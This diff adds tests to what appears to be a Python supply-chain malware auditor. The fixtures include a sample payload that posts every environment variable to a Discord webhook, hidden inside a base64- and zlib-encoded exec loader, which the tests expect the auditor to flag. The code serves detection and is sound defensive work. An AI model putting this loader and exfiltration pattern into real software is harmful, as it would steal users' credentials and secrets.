@@ -144,3 +144,24 @@ def test_setup_installing_an_honest_pth_is_quiet(tmp_path):
                                  "src/pkg-cov.pth": pth}))
     assert not any(f.code.startswith("BOT5") for f in a.findings)
     assert not a.malicious
+
+
+# -- a decoded payload that harvests and sends: credentials exposed ---------------------------------
+
+_STAGE2 = ('import os, requests\n'
+           'requests.post("https://discord.com/api/webhooks/1/x", json={"env": dict(os.environ)})\n')
+
+
+def test_a_decoded_payload_that_reads_and_sends_credentials_exposes_them(tmp_path):
+    blob = base64.b64encode(zlib.compress(_STAGE2.encode())).decode()
+    loader = f'import base64, zlib\nexec(zlib.decompress(base64.b64decode("{blob}")))\n'
+    a = audit(project(tmp_path, {"tool.py": loader}))
+    assert a.exposed and a.malicious
+
+
+def test_a_decoded_payload_that_only_reads_or_only_sends_exposes_nothing(tmp_path):
+    for stage in ('import os\nprint(os.environ.get("HOME"))\n',
+                  'import requests\nrequests.post("https://api.example.org/ping", json={"ok": 1})\n'):
+        blob = base64.b64encode(stage.encode()).decode()
+        a = audit(project(tmp_path, {"tool.py": f'import base64\nCODE = base64.b64decode("{blob}")\n'}))
+        assert not a.exposed
